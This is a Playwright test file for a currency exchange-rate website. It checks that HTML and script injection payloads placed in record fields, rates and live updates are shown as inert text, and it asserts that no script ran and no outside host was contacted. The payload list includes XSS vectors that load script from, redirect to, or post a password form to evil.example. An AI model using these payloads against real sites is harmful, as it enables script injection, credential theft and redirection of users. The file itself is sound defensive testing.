import type { Page } from 'playwright-core';
import type { CurrencyRecord } from '../../../src/domain/rates/currency';
import { staffWords } from '../../../src/site/words/staffWords';
import { buildCode, buildRecord } from '../../support/builders';
import { eventually } from '../../support/eventually';
import { readRow, readRows, waitForRows } from '../support/homePage';
import { openEditor, save, savedMessage, watchWrites, wholePart } from '../support/staffPages';
import type { OpenedPage } from '../support/world';
import { setUpWorld } from '../support/world';

/** Texts that would run code, contact another site or lead there if the page treated them as markup. */
const payloads = [
  '<img src=x onerror="window.hacked=1;alert(1)">',
  '<script>window.hacked=1;alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '"><svg onload="window.hacked=1">',
  '\'" onmouseover="window.hacked=1" autofocus onfocus="window.hacked=1',
  '</option></select><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '</td></tr></table><form action="https://evil.example/"><input name="heslo">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="x.css">',
  '<a href="javascript:window.hacked=1">USD</a>',
  'javascript:window.hacked=1',
  '{{constructor.constructor("window.hacked=1")()}}${window.hacked=1}',
] as const;

type TextField = 'acronym' | 'name_en' | 'name_sk' | 'updated';
const textFields: readonly TextField[] = ['acronym', 'name_en', 'name_sk', 'updated'];

const inTexts = textFields.flatMap((field, column) =>
  payloads.map((payload, line) => {
    const acronym = buildCode(column * payloads.length + line);
    return buildRecord({ acronym, [field]: field === 'acronym' ? `${acronym} ${payload}` : payload });
  }),
);
const inRates = payloads.flatMap((payload, line) =>
  (['buy', 'sell'] as const).map((side) => ({ ...buildRecord({ acronym: `Y${side}${line}` }), [side]: payload })),
);
const usd = buildRecord();
// Keys can't contain some characters, so this key is a payload that was changed to fit.
const underKey = buildRecord({ acronym: 'ZZZ' });
const MARKED_KEY = '<img src=x onerror="window·hacked=1">';

const currencies = {
  usd,
  [MARKED_KEY]: underKey,
  ...Object.fromEntries(inTexts.map((record, index) => [buildCode(index).toLowerCase(), record])),
  ...Object.fromEntries(inRates.map((record, index) => [`k${index}`, record])),
};

const listed = [usd, underKey, ...inTexts];
/** The records that the editor lists: their code is valid and matches their key. */
const editable = [usd, ...inTexts.slice(payloads.length)];
const world = setUpWorld({ currencies });

/** Asserts that all payloads stayed text: nothing ran, nothing contacted another site, and the policy refused nothing. */
async function expectHarmless({ page, complaints }: OpenedPage, dialogs: readonly string[]): Promise<void> {
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  expect(
    await page.evaluate(
      () =>
        document.querySelectorAll(
          '[onerror], [onload], [onfocus], [srcdoc], [action], base, meta[http-equiv], [href^="javascript:"]',
        ).length,
    ),
  ).toBe(0);
  expect(dialogs).toEqual([]);
  expect(complaints.list).toEqual([]);
  expect(new URL(page.url()).origin).toBe(world().address);
}

function watchDialogs(page: Page): readonly string[] {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

const nameOf = ({ acronym, name_sk }: CurrencyRecord) => `${acronym} – ${name_sk}`;

describe('markup in every field of a record', () => {
  it('is shown as text by the list and the calculator, and leaves the last update alone', async () => {
    const opened = await world().openPage();
    const { page } = opened;
    const dialogs = watchDialogs(page);
    const expected = listed.map(({ acronym, name_sk }) => [acronym, name_sk, '1,187', '1,150']);
    // First with the rates that the database sends, then with those that the browser has stored.
    for (const open of [() => Promise.resolve(), () => page.reload()]) {
      await open();
      await waitForRows(page, listed.length);
      expect([...(await readRows(page))].sort()).toEqual([...expected].sort());
      expect(await page.locator('#rates-table time').textContent()).toBe('13.4.2026 o 18:00');
      await eventually(async () => {
        const options = await page.getByLabel('Mám').locator('option').allTextContents();
        expect(options.slice(1).sort()).toEqual(
          ['EUR – euro', ...[...listed, ...(inRates as CurrencyRecord[])].map(nameOf)].sort(),
        );
      });
    }

    await page.getByPlaceholder('amount of your cash').fill('100');
    for (const { acronym } of inTexts.slice(0, payloads.length)) {
      await page.getByLabel('Mám').selectOption(acronym);
      await page.getByLabel('Chcem').selectOption('USD');
      expect(await page.getByPlaceholder('amount you will receive').inputValue()).toBe('96,88');
      expect(await page.locator('#calculator').textContent()).toContain(acronym);
    }
    await expectHarmless(opened, dialogs);
  });

  it('is shown as text when it comes over the open connection', async () => {
    const opened = await world().openPage();
    const dialogs = watchDialogs(opened.page);
    await waitForRows(opened.page, listed.length);
    for (const payload of payloads) {
      world().backend.write('/currencies/usd/name_sk', payload);
      await eventually(async () => expect((await readRow(opened.page, 'USD'))?.[1]).toBe(payload));
    }
    world().backend.write('/currencies/usd', usd);
    await expectHarmless(opened, dialogs);
  });

  it('is shown as text by the editor, whose writes stay below the currencies', async () => {
    const opened = await openEditor(world(), { rows: editable.length });
    const { page } = opened;
    const dialogs = watchDialogs(page);
    const writes = watchWrites(page);
    const addresses: string[] = [];
    page.on('request', (request) => addresses.push(request.url()));
    const headers = await page.getByRole('rowheader').allTextContents();
    expect(headers.sort()).toEqual(editable.map(({ acronym, name_sk }) => `${acronym} ${name_sk}`).sort());
    const odd = page.getByRole('region', { name: staffWords.faultyRecords.heading }).getByRole('listitem');
    expect(await odd.count()).toBe(payloads.length + inRates.length + 1);
    await expectHarmless(opened, dialogs);

    for (const { acronym } of editable) {
      await wholePart(page, acronym, 'Nákup').fill('2');
    }
    await save(page);
    await page.getByRole('dialog').getByRole('button', { name: staffWords.confirmation.confirm }).click();
    await savedMessage(page).waitFor();
    expect(writes).toHaveLength(editable.length);
    // No text of a record can direct a write to another path or host.
    expect(writes.filter(({ path }) => !/^\/currencies\/[a-z]+$/.test(path))).toEqual([]);
    expect(addresses.filter((address) => new URL(address).hostname !== '127.0.0.1')).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(dialogs).toEqual([]);
  });
});
